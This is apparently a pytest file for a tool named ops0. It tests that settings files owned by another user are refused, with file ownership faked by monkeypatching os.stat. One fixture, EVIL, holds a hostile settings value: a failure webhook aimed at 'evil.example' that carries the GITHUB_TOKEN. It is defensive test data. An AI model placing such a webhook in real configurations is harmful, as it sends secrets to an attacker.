"""Whose settings are taken, with owners that are made up: the tests may run as anybody."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from ops0.core.errors import SettingsError
from ops0.host.project import find_project
from ops0.host.settings_owners import ForeignSettings

ME, EVE, CI = 1000, 666, 1001
EVIL = '[on_failure.webhook]\nurl = "https://evil.example"\ntoken = "env:GITHUB_TOKEN"\n'


class Owners:
    """Files and who owns them. What nobody is named for is root's."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder = folder.resolve()
        self._of: dict[str, int] = {}
        self._patch = monkeypatch
        monkeypatch.delenv("OPS0_SAFE_FOLDERS", raising=False)
        monkeypatch.delenv("SUDO_UID", raising=False)
        for name in ("stat", "lstat"):
            self._replace(name, getattr(os, name))
        self.become(ME)

    def become(self, user: int) -> None:
        self._patch.setattr(os, "geteuid", lambda: user)

    def make(self, name: str, owner: int, text: str = "") -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return self.own(name, owner)

    def own(self, name: str, owner: int) -> Path:
        path = self.folder / name
        self._of[str(path)] = owner
        return path

    def _replace(self, name: str, real: Any) -> None:
        def asked(path: Any, *given: Any, **named: Any) -> os.stat_result:
            told = real(path, *given, **named)
            text = os.fspath(path) if isinstance(path, str | os.PathLike) else ""
            # Each Python has its own attributes behind the ten that count here.
            return os.stat_result((*told[:4], self._of.get(text, 0), *told[5:10]))

        self._patch.setattr(os, name, asked)


@pytest.fixture
def owners(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Owners:
    return Owners(tmp_path, monkeypatch)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("ops0.toml", EVIL),
        ("pyproject.toml", "[tool.ops0]\n"),
        ("pyproject.toml", "[tool.ops0]\nbad = 1\n"),
    ],
)
@pytest.mark.parametrize("pipeline", ["mine/flow.py", "flow.py"])
def test_a_strangers_settings_are_refused(
    owners: Owners, name: str, text: str, pipeline: str
) -> None:
    flow = owners.make(pipeline, ME)
    settings = owners.make(name, EVE, text)
    with pytest.raises(ForeignSettings, match=str(settings)) as caught:
        find_project(flow)
    assert caught.value.owner == EVE
    assert f"OPS0_SAFE_FOLDERS={owners.folder}" in str(caught.value.hint)


def test_a_link_of_a_strangers_to_settings_of_ones_own_is_refused(owners: Owners) -> None:
    flow = owners.make("mine/flow.py", ME)
    owners.make("elsewhere/real.toml", ME)
    (owners.folder / "ops0.toml").symlink_to(owners.folder / "elsewhere/real.toml")
    owners.own("ops0.toml", EVE)
    patched = os.stat
    assert patched(owners.folder / "elsewhere/real.toml").st_uid == ME
    with pytest.raises(ForeignSettings):
        find_project(flow)


def test_what_a_stranger_says_to_others_is_no_matter(owners: Owners) -> None:
    flow = owners.make("mine/flow.py", ME)
    owners.make("pyproject.toml", EVE, '[project]\nname = "not-ops0"\n')
    assert find_project(flow).root == owners.folder / "mine"


@pytest.mark.parametrize("mark", [".git", "requirements.txt", "setup.py"])
def test_a_strangers_mark_makes_no_root(owners: Owners, mark: str) -> None:
    flow = owners.make("mine/flow.py", ME)
    owners.make(mark, EVE)
    assert find_project(flow).root == owners.folder / "mine"
    owners.own(mark, ME)
    assert find_project(flow).root == owners.folder


@pytest.mark.parametrize("owner", [ME, 0])
def test_ones_own_and_roots_are_taken(owners: Owners, owner: int) -> None:
    flow = owners.make("flows/flow.py", ME)
    owners.make("ops0.toml", owner)
    assert find_project(flow).root == owners.folder


@pytest.mark.parametrize("me", [0, ME])
def test_a_checkout_of_somebody_elses_is_taken_as_a_whole(owners: Owners, me: int) -> None:
    owners.become(me)
    flow = owners.make("flows/flow.py", CI)
    owners.make("ops0.toml", CI)
    assert find_project(flow).root == owners.folder


def test_a_file_that_root_has_made_in_a_checkout_belongs_to_it(owners: Owners) -> None:
    owners.become(0)
    flow = owners.make("flow.py", 0)
    owners.make("ops0.toml", CI)
    owners.own(".", CI)
    owners.own(str(owners.folder), CI)
    assert find_project(flow).root == owners.folder
    assert find_project(owners.folder / "not_there.py").root == owners.folder


def test_root_by_sudo_is_the_user_too(owners: Owners, monkeypatch: pytest.MonkeyPatch) -> None:
    owners.become(0)
    flow = owners.make("flows/flow.py", 0)
    owners.make("ops0.toml", ME)
    with pytest.raises(ForeignSettings):
        find_project(flow)
    monkeypatch.setenv("SUDO_UID", str(ME))
    assert find_project(flow).root == owners.folder


def test_a_folder_can_be_trusted(owners: Owners, monkeypatch: pytest.MonkeyPatch) -> None:
    flow = owners.make("team/flows/flow.py", ME)
    owners.make("team/ops0.toml", EVE)
    monkeypatch.setenv("OPS0_SAFE_FOLDERS", f"/nowhere:{owners.folder}/other")
    with pytest.raises(ForeignSettings):
        find_project(flow)
    monkeypatch.setenv("OPS0_SAFE_FOLDERS", f"/nowhere:{owners.folder}")
    assert find_project(flow).root == owners.folder / "team"


def test_the_error_is_one_of_the_settings(owners: Owners) -> None:
    fault = ForeignSettings(owners.folder / "ops0.toml", EVE)
    assert isinstance(fault, SettingsError)
    assert fault.exit_code == 6
